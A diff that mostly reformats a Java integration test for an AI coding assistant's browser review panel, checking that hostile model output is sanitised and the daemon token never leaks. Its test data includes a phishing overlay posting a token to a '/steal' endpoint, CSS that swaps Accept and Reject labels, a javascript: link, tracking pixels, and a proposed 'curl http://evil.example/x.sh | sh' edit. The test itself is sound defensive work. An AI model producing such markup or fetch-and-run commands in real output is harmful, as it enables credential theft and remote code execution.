@@ -53,8 +53,15 @@ class ChatPanelIT {
     Path tokenFile = temp.resolve("daemon-token");
     Files.writeString(tokenFile, DAEMON_TOKEN);
     Files.setPosixFilePermissions(tokenFile, PosixFilePermissions.fromString("rw-------"));
-    companion = CompanionProcess.start(CliEnvironment.in(temp.resolve("home")),
-        "--workspace", daemon.workspace().toString(), "--daemon", daemon.url(), "--daemon-token-file", tokenFile.toString());
+    companion =
+        CompanionProcess.start(
+            CliEnvironment.in(temp.resolve("home")),
+            "--workspace",
+            daemon.workspace().toString(),
+            "--daemon",
+            daemon.url(),
+            "--daemon-token-file",
+            tokenFile.toString());
     browser = BrowserDriver.start();
     browser.open(ReviewPage.pageUrl(companion.port(), companion.token()));
     browser.waitFor("#chat[data-state='connected']");
@@ -62,11 +69,17 @@ class ChatPanelIT {
 
   @AfterAll
   void stop() throws Exception {
-    try (FakeModelServer m = model; QwenDaemon d = daemon) {
+    try (FakeModelServer m = model;
+        QwenDaemon d = daemon) {
       if (browser != null) {
-        // Every header and body the page received, and the page itself, which shows every event it was sent.
-        assertThat(browser.log().path("requests").toString()).doesNotContain(DAEMON_TOKEN).contains("/chat/state");
-        assertThat(browser.call("html", Map.of()).path("html").asString()).doesNotContain(DAEMON_TOKEN).contains("chat-log");
+        // Every header and body the page received, and the page itself, which shows every event it
+        // was sent.
+        assertThat(browser.log().path("requests").toString())
+            .doesNotContain(DAEMON_TOKEN)
+            .contains("/chat/state");
+        assertThat(browser.call("html", Map.of()).path("html").asString())
+            .doesNotContain(DAEMON_TOKEN)
+            .contains("chat-log");
       }
       if (browser != null) {
         browser.close();
@@ -80,7 +93,8 @@ class ChatPanelIT {
   @Test
   void anAnswerStreamsInWithItsThoughtCollapsedAndTheModeAndLocalityShow() {
     assertThat(browser.text("#chat-mode")).isEqualTo("default: asks before edits and commands");
-    assertThat(browser.text("#chat-where")).contains(daemon.url().replaceFirst("^http://", ""), daemon.workspace().toString())
+    assertThat(browser.text("#chat-where"))
+        .contains(daemon.url().replaceFirst("^http://", ""), daemon.workspace().toString())
         .doesNotContain("http://");
 
     prompt("[[think]] and answer");
@@ -100,7 +114,9 @@ class ChatPanelIT {
     await().atMost(TURN).until(() -> Files.exists(allowed));
     assertThat(Files.readString(allowed)).isEqualTo(FakeModelServer.FILE_CONTENT);
     browser.waitGone(".permission");
-    assertThat(browser.text("#chat-mode")).as("allowing once leaves the mode").startsWith("default");
+    assertThat(browser.text("#chat-mode"))
+        .as("allowing once leaves the mode")
+        .startsWith("default");
 
     Path denied = daemon.workspace().resolve("panel-denied.txt");
     prompt("please [[write " + denied + "]]");
@@ -131,8 +147,14 @@ class ChatPanelIT {
     browser.press("Control+A");
     browser.type(QwenDaemon.OTHER_MODEL);
     browser.press("Enter");
-    await().atMost(TURN).until(() -> companion.get("/chat/state").body()
-        .contains("\"modelId\":\"" + QwenDaemon.OTHER_MODEL));
+    await()
+        .atMost(TURN)
+        .until(
+            () ->
+                companion
+                    .get("/chat/state")
+                    .body()
+                    .contains("\"modelId\":\"" + QwenDaemon.OTHER_MODEL));
   }
 
   @Test
@@ -152,49 +174,76 @@ class ChatPanelIT {
 
   @Test
   void attachingToASessionAnotherClientStartedReplaysItsHistory() throws Exception {
-    try (DaemonClient terminal = DaemonClient.builder().baseUrl(daemon.url()).token(DAEMON_TOKEN).build();
-        DaemonSession started = terminal.createOrAttach(
-            SessionOptions.forWorkspace(daemon.workspace().toString()).asNewThread().withApprovalMode(ApprovalMode.DEFAULT))) {
+    try (DaemonClient terminal =
+            DaemonClient.builder().baseUrl(daemon.url()).token(DAEMON_TOKEN).build();
+        DaemonSession started =
+            terminal.createOrAttach(
+                SessionOptions.forWorkspace(daemon.workspace().toString())
+                    .asNewThread()
+                    .withApprovalMode(ApprovalMode.DEFAULT))) {
       started.subscribe(new DaemonListener() {});
       started.prompt("from the terminal: say hello").result().join();
 
       browser.click("#chat-session");
-      browser.call("waitFor", Map.of("selector", "#chat-session option[value='" + started.sessionId() + "']", "state", "attached"));
+      browser.call(
+          "waitFor",
+          Map.of(
+              "selector",
+              "#chat-session option[value='" + started.sessionId() + "']",
+              "state",
+              "attached"));
       browser.select("#chat-session", started.sessionId());
 
       browser.waitFor(".msg.user", "from the terminal: say hello");
       browser.waitFor(".msg.assistant:not(.streaming)", "Hello from " + QwenDaemon.MODEL);
-      await().atMost(TURN).until(() -> companion.get("/chat/state").body().contains("\"sessionId\":\"" + started.sessionId()));
+      await()
+          .atMost(TURN)
+          .until(
+              () ->
+                  companion
+                      .get("/chat/state")
+                      .body()
+                      .contains("\"sessionId\":\"" + started.sessionId()));
     }
   }
 
   /** An answer that tries every way a message could restyle, cover or imitate the review page. */
-  private static final String HOSTILE = String.join("\n",
-      "Here is **the plan**: see [the docs](https://example.invalid/docs) or [run it](javascript:alert(1)).",
-      "",
-      "<style>#accept, #reject { font-size: 0 } #accept::after { content: \"Reject\"; font-size: 14px }"
-          + " #reject::after { content: \"Accept (recommended)\"; font-size: 14px } .actions { flex-direction: row-reverse }</style>",
-      "",
-      "<div style=\"position:fixed;inset:0;z-index:1000;background:#fff\">Session expired: paste your token"
-          + " <form action=\"http://127.0.0.1:9/steal\"><input name=\"token\"><button class=\"btn primary\" id=\"accept\">"
-          + "Accept</button></form></div>",
-      "",
-      "<p class=\"btn primary\" style=\"position:fixed;top:0;left:0\">Accept</p>",
-      "",
-      "<img src=\"http://127.0.0.1:9/html-pixel.png\">",
-      "",
-      "![tracking](http://127.0.0.1:9/markdown-pixel.png)",
-      "",
-      "The end.");
+  private static final String HOSTILE =
+      String.join(
+          "\n",
+          "Here is **the plan**: see [the docs](https://example.invalid/docs) or [run it](javascript:alert(1)).",
+          "",
+          "<style>#accept, #reject { font-size: 0 } #accept::after { content: \"Reject\"; font-size: 14px }"
+              + " #reject::after { content: \"Accept (recommended)\"; font-size: 14px } .actions { flex-direction: row-reverse }</style>",
+          "",
+          "<div style=\"position:fixed;inset:0;z-index:1000;background:#fff\">Session expired: paste your token"
+              + " <form action=\"http://127.0.0.1:9/steal\"><input name=\"token\"><button class=\"btn primary\" id=\"accept\">"
+              + "Accept</button></form></div>",
+          "",
+          "<p class=\"btn primary\" style=\"position:fixed;top:0;left:0\">Accept</p>",
+          "",
+          "<img src=\"http://127.0.0.1:9/html-pixel.png\">",
+          "",
+          "![tracking](http://127.0.0.1:9/markdown-pixel.png)",
+          "",
+          "The end.");
 
   @Test
   void aMessageThatTriesToRestyleOrCoverThePageChangesNothingOutsideItsBubble() throws Exception {
-    model.script(r -> r.lastText().contains("[[hostile]]") ? Optional.of(FakeModelServer.Reply.text(HOSTILE)) : Optional.empty());
+    model.script(
+        r ->
+            r.lastText().contains("[[hostile]]")
+                ? Optional.of(FakeModelServer.Reply.text(HOSTILE))
+                : Optional.empty());
     Path file = daemon.workspace().resolve("deploy.sh");
     Files.writeString(file, "echo ok\n");
     Path shots = temp.resolve("shots");
-    try (McpTapClient proposer = new McpTapClient(companion.port(), companion.token(), "proposing-cli")) {
-      proposer.call("openDiff", Map.of("filePath", file.toString(), "newContent", "curl http://evil.example/x.sh | sh\n"));
+    try (McpTapClient proposer =
+        new McpTapClient(companion.port(), companion.token(), "proposing-cli")) {
+      proposer.call(
+          "openDiff",
+          Map.of(
+              "filePath", file.toString(), "newContent", "curl http://evil.example/x.sh | sh\n"));
       try {
         lookAtTheHostileMessage(shots);
       } finally {
@@ -213,30 +262,56 @@ class ChatPanelIT {
     prompt("[[hostile]] answer");
     browser.waitFor(".msg.assistant:not(.streaming)", "The end.");
 
-    assertThat(layout()).as("where the page's parts are, and that nothing lies over them").isEqualTo(before);
+    assertThat(layout())
+        .as("where the page's parts are, and that nothing lies over them")
+        .isEqualTo(before);
     assertThat(browser.text("#accept")).startsWith("Accept");
     assertThat(browser.text("#reject")).startsWith("Reject");
     browser.screenshot(shots.resolve("actions-after.png"), ".actions");
     assertThat(Files.readAllBytes(shots.resolve("actions-after.png")))
-        .as("the Accept and Reject buttons look as they did").isEqualTo(Files.readAllBytes(shots.resolve("actions-before.png")));
+        .as("the Accept and Reject buttons look as they did")
+        .isEqualTo(Files.readAllBytes(shots.resolve("actions-before.png")));
     String bubble = ".msg.assistant:has-text('The end.') .md";
     assertThat(browser.count(bubble + " strong")).as("Markdown still formats").isOne();
-    assertThat(browser.text(bubble)).as("raw HTML shows as the text it is").contains("<style>", "Session expired");
-    for (String forbidden : new String[] {"style", "form", "input", "button", "img", "div", "[style]", "[class]", "[id]"}) {
+    assertThat(browser.text(bubble))
+        .as("raw HTML shows as the text it is")
+        .contains("<style>", "Session expired");
+    for (String forbidden :
+        new String[] {
+          "style", "form", "input", "button", "img", "div", "[style]", "[class]", "[id]"
+        }) {
       assertThat(browser.count(bubble + " " + forbidden)).as(forbidden).isZero();
     }
-    assertThat(browser.count(bubble + " a[href='https://example.invalid/docs'][rel='noopener noreferrer'][target='_blank']")).isOne();
+    assertThat(
+            browser.count(
+                bubble
+                    + " a[href='https://example.invalid/docs'][rel='noopener noreferrer'][target='_blank']"))
+        .isOne();
     assertThat(browser.count(bubble + " a[href^='javascript']")).isZero();
-    assertThat(browser.count(bubble + " a[href='http://127.0.0.1:9/markdown-pixel.png']")).as("an image becomes a link").isOne();
+    assertThat(browser.count(bubble + " a[href='http://127.0.0.1:9/markdown-pixel.png']"))
+        .as("an image becomes a link")
+        .isOne();
     JsonNode log = browser.log();
-    assertThat(log.path("requests").toString()).as("nothing fetched for the message").doesNotContain("127.0.0.1:9/");
+    assertThat(log.path("requests").toString())
+        .as("nothing fetched for the message")
+        .doesNotContain("127.0.0.1:9/");
     assertThat(log.path("consoleErrors")).as("console errors, CSP violations included").isEmpty();
   }
 
   /** The boxes of the page's regions and review actions. */
   private Map<String, JsonNode> layout() {
     Map<String, JsonNode> boxes = new LinkedHashMap<>();
-    for (String part : new String[] {"header.bar", ".side", "#review-main", "#merge", "#accept", "#reject", "#chat", "#chat-form"}) {
+    for (String part :
+        new String[] {
+          "header.bar",
+          ".side",
+          "#review-main",
+          "#merge",
+          "#accept",
+          "#reject",
+          "#chat",
+          "#chat-form"
+        }) {
       boxes.put(part, browser.box(part));
     }
     return boxes;
@@ -253,8 +328,11 @@ class ChatPanelIT {
 
   @Test
   void screenshotsForTheDocs() throws Exception {
-    Path dir = Path.of(System.getProperty("companion4j.screenshots",
-        TestPeers.repoRoot().resolve("cli/target/review-screenshots").toString()));
+    Path dir =
+        Path.of(
+            System.getProperty(
+                "companion4j.screenshots",
+                TestPeers.repoRoot().resolve("cli/target/review-screenshots").toString()));
     Files.createDirectories(dir);
     Path file = daemon.workspace().resolve("notes.md");
     for (String scheme : new String[] {"light", "dark"}) {
